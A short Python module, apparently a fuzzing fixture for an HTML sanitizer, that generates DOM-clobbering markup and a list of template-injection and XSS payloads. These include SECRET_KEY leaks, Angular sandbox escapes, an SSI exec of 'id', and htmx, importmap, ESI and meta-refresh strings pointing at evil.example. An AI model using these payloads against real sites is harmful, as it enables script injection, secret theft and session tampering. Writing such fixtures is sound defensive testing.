"""Names that stand in the way of scripts, and the syntax of templates."""

from collections.abc import Iterator
from itertools import product

NAMES = """body head forms cookie location documentElement getElementById querySelector
    createElement attributes elements parentNode submit action main announcements next
    csrfmiddlewaretoken htmx __proto__ constructor toString""".split()  # noqa: SIM905 - as a list, a page long
CARRIERS = (
    "<img name={0}>",
    "<a id={0} href=javascript:hit()>a</a><a id={0} name=x href=//evil.example/>b</a>",
    "<form id={0}><input name=attributes><input name={0}></form>",
    "<iframe name={0} srcdoc='<script>parent.hit()</script>'></iframe>",
    "# a {{#{0} onclick=hit()}}",
    "[a](#{0}){{: id={0} onclick=hit()}}",
)
TEMPLATES = (
    "{{ 7|add:7 }}{{ settings.SECRET_KEY }}",
    "{% load static %}{% include 'base.html' %}",
    "{% debug %}",
    "{{ constructor.constructor('hit()')() }}",
    "{{ $on.constructor('hit()')() }}",
    "${hit()}",
    "#{hit()}",
    "<%= hit() %>",
    "<?php hit(); ?>",
    "<!--#exec cmd='id'-->",
    "[[${hit()}]]",
    "{{{ hit() }}}",
    "@{hit()}",
    "<esi:include src=//evil.example/x />",
    "{{x|safe}}<img src=x onerror=hit()>",
    "<div hx-get=//evil.example/ hx-trigger=load hx-on:load=hit()></div>",
    "<div data-hx-get=/ data-hx-trigger=load data-hx-on--load=hit()></div>",
    "<div x-data=hit() x-init=hit() v-html=hit() ng-init=hit() ng-app></div>",
    '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example/"]}]}</script>',
    '<script type=importmap>{"imports":{"x":"//evil.example/x.js"}}</script>',
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=set-cookie content='sessionid=1'>",
    "<meta name=referrer content=unsafe-url>",
    "<portal src=//evil.example/></portal><fencedframe></fencedframe>",
    "<dialog open><form method=dialog><button autofocus onfocus=hit()>a</button></form></dialog>",
    "<button popovertarget=p onclick=hit()>a</button><p popover id=p>a",
    "<form action=/account/logout/ method=post><button>a</button></form>",
)


def clobbering() -> Iterator[str]:
    for name, carrier in product(NAMES, CARRIERS):
        yield carrier.format(name)


def templates() -> Iterator[str]:
    yield from TEMPLATES
